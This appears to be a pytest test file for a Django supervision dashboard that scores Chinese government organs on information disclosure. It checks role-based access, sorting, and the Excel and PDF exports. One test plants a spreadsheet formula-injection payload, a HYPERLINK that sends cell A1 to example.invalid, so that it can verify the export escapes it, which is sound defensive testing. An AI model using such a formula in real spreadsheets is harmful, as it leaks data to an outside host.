"""The dashboard, the organ page and the Excel export: who sees what, sorting, the file read back."""

import datetime as dt
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from gongkai.applications.models import Application
from gongkai.core.testing import assert_login_required, assert_may, assert_may_not

from .fixtures import build

pytestmark = pytest.mark.django_db
DASH = reverse("supervision:dashboard")
EXPORT = reverse("supervision:export")


def organ_url(organ, year=2025):
    return reverse("supervision:organ", args=[organ.code]) + f"?year={year}"


@pytest.fixture
def counted(world, frozen_today):
    build(world)
    return world


def names_in(response, world):
    text = response.content.decode()
    return {o.name for o in (world.city, world.district, world.fgj, world.jyj) if f">{o.name}</a>" in text}


def test_anonymous_is_sent_to_log_in(world):
    for url in (DASH, EXPORT, organ_url(world.fgj)):
        assert_login_required(url)


def test_supervisor_sees_its_subtree_only(counted):
    w = counted
    assert names_in(assert_may(w.city_supervisor, DASH), w) == {w.city.name, w.district.name, w.fgj.name, w.jyj.name}
    assert names_in(assert_may(w.district_supervisor, DASH), w) == {w.district.name, w.fgj.name, w.jyj.name}
    assert_may(w.district_supervisor, organ_url(w.fgj))
    assert_may_not(w.district_supervisor, organ_url(w.city))


def test_department_clerk_sees_its_own_organ_only(counted):
    w = counted
    assert names_in(assert_may(w.fgj_clerk, DASH), w) == {w.fgj.name}
    assert names_in(assert_may(w.fgj_reviewer, DASH), w) == {w.fgj.name}
    assert_may(w.fgj_clerk, organ_url(w.fgj))
    assert_may_not(w.fgj_clerk, organ_url(w.jyj))
    assert_may_not(w.jyj_clerk, organ_url(w.fgj))


def test_others_get_404(counted):
    w = counted
    for user in (w.nobody, w.district_column_owner):
        assert_may_not(user, DASH)
        assert_may_not(user, EXPORT)
        assert_may_not(user, organ_url(w.fgj))
    assert_may_not(w.sysadmin, reverse("supervision:organ", args=["NOSUCHCODE"]))


def scores_in(text: str) -> list[float]:
    return [float(x) for x in re.findall(r'<td class="num score">([0-9.]+)</td>', text)]


def test_sorting_by_score(counted):
    w = counted
    up = assert_may(w.city_supervisor, DASH + "?year=2025&sort=score").content.decode()
    down = assert_may(w.city_supervisor, DASH + "?year=2025&sort=-score").content.decode()
    # 岭东区人民政府 has nothing in 2025: 不参评, "—", listed last either way
    assert scores_in(up) == sorted(scores_in(up)) and len(scores_in(up)) == 3
    assert scores_in(down) == sorted(scores_in(up), reverse=True)
    assert up.count('<td class="num score">—</td>') == 1 and down.rstrip().count("不参评") >= 1
    assert 'sort=-score" data-sort="score"' in up  # the header link flips the direction
    assert 'sort=score" data-sort="score"' in down
    assert_may(w.city_supervisor, DASH + "?year=abc&sort=nonsense")  # ignored, not an error


def test_organ_page_lists_what_is_behind_the_numbers(counted):
    w = counted
    text = assert_may(w.district_supervisor, organ_url(w.fgj)).content.decode()
    c7 = Application.objects.get(organ=w.fgj, status="processing")
    assert reverse("applications:detail", args=[c7.tracking_no]) in text
    assert "栏目news2" in text and "栏目empty1" in text
    assert "<svg" in text and "<script" not in text and 'style="' not in text.split("<svg", 1)[1].split("</svg>")[0]
    assert "国办秘函〔2019〕19号" in text and "第三十三条" in text


def test_excel_export_reads_back_with_numbers_and_the_rules(counted):
    w = counted
    response = assert_may(w.district_supervisor, EXPORT + "?year=2025")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == 'attachment; filename="supervision-2025.xlsx"'
    wb = openpyxl.load_workbook(io.BytesIO(response.content))
    ws = wb["考评"]
    assert [ws["A2"].value, ws["B2"].value] == ["制表单位", w.district.name]
    assert ws["A3"].value == "统计截止日" and ws["B3"].value.date() == dt.date(2025, 12, 31)
    header = [c.value for c in ws[6]]
    assert header[:9] == ["排名", "机关", "机关代码", "得分", "结论", "单项否决", "扣分合计", "加分", "人工扣分"]
    assert ws.freeze_panes == "C7" and ws.auto_filter.ref == f"A6:{openpyxl.utils.get_column_letter(len(header))}9"
    rows = {r[1]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=7, values_only=True)}
    assert set(rows) == {w.district.name, w.fgj.name, w.jyj.name}
    fgj = rows[w.fgj.name]
    assert fgj["按期答复率"] == pytest.approx(0.8) and fgj["平均办理用时（工作日）"] == 19.8 and fgj["超期未答复"] == 1
    assert fgj["年度报告逾期"] == "是" and isinstance(fgj["得分"], float) and isinstance(fgj["排名"], int)
    assert fgj["扣分：逾期答复"] == 1 and fgj["扣分：年度报告逾期"] == 10
    assert fgj["扣分合计"] == pytest.approx(100 - fgj["得分"])
    rate_col = header.index("按期答复率") + 1
    fgj_row = next(r for r in range(7, 10) if ws.cell(row=r, column=2).value == w.fgj.name)
    assert ws.cell(row=fgj_row, column=rate_col).data_type == "n"
    assert ws.cell(row=fgj_row, column=rate_col).number_format == "0.0%"
    district = rows[w.district.name]
    assert (district["结论"], district["排名"], district["得分"]) == ("不参评", None, None)
    rules = wb["评分细则"]
    text = "\n".join(str(c) for row in rules.iter_rows(values_only=True) for c in row if c is not None)
    assert "逾期答复" in text and "每件扣1分，最多扣15分" in text and "达到5个单项否决" in text and "合格分数线" in text
    assert wb["指标说明"].max_row > 10 and "人工加分扣分" in wb.sheetnames


EXPORT_PDF = reverse("supervision:export_pdf")


def pdf_text(response) -> str:
    import pdfplumber

    assert response["Content-Type"] == "application/pdf"
    with pdfplumber.open(io.BytesIO(response.content)) as pdf:
        return "\n".join(page.extract_text() or "" for page in pdf.pages)


def test_pdf_export_has_the_ranked_table_the_deductions_and_the_rules(counted):
    w = counted
    sheet = openpyxl.load_workbook(io.BytesIO(assert_may(w.city_supervisor, EXPORT + "?year=2025").content))["考评"]
    expected = [(r[1], r[3]) for r in sheet.iter_rows(min_row=7, values_only=True) if r[3] is not None]
    response = assert_may(w.city_supervisor, EXPORT_PDF + "?year=2025")
    assert response["Content-Disposition"] == 'attachment; filename="supervision-2025.pdf"'
    text = pdf_text(response)
    for expected_text in ("政府信息公开考评（2025年）", "指标定义和依据", "国办秘函〔2019〕19号", "制表单位：双鸭山市人民政府",
                          "统计截止日：2025年12月31日", "评分细则", "各指标扣分", "每件扣1分，最多扣15分"):
        assert expected_text in text, expected_text
    lines = text.splitlines()
    found = []
    for name, score in expected:
        line = next(i for i, line in enumerate(lines) if name in line.split())
        cells = lines[line].split()  # 排名 机关 得分 结论 …
        assert float(cells[cells.index(name) + 1]) == float(score), (name, score, lines[line])
        found.append(line)
    assert found == sorted(found) and len(found) == 3  # rank order


def test_pdf_export_is_scoped_like_the_dashboard(counted, world):
    w = counted
    text = pdf_text(assert_may(w.fgj_clerk, EXPORT_PDF + "?year=2025"))
    assert w.fgj.name in text
    assert not any(o.name in text for o in (w.city, w.district, w.jyj))
    assert_may_not(w.nobody, EXPORT_PDF)
    assert_login_required(EXPORT_PDF)
    assert 'href="/staff/supervision/export.pdf?year=' in assert_may(w.fgj_clerk, DASH).content.decode()


def test_excel_cells_from_untrusted_text_are_never_formulas(counted):
    """An organ's name (or any text a report or a person supplied) beginning with = + - @ is written as text."""
    w = counted
    w.jyj.name = '=HYPERLINK("http://example.invalid/?x="&A1,"点此")'
    w.jyj.save(update_fields=["name"])
    wb = openpyxl.load_workbook(io.BytesIO(assert_may(w.district_supervisor, EXPORT + "?year=2025").content))
    names = [row[1] for row in wb["考评"].iter_rows(min_row=7, values_only=True)]
    assert "'" + w.jyj.name in names
    assert not any(isinstance(n, str) and n.startswith("=") for n in names)
    assert all(c.data_type != "f" for row in wb["考评"].iter_rows() for c in row)


def test_neutral_cells():
    from gongkai.core.cells import neutral, neutral_row

    assert neutral_row(["=1+2", "+1", "-A1", "@SUM(A1)", "\t=1", "＝1", "岭东区", 3, None, -2]) == [
        "'=1+2", "'+1", "'-A1", "'@SUM(A1)", "'\t=1", "'＝1", "岭东区", 3, None, -2]
    assert neutral("") == ""
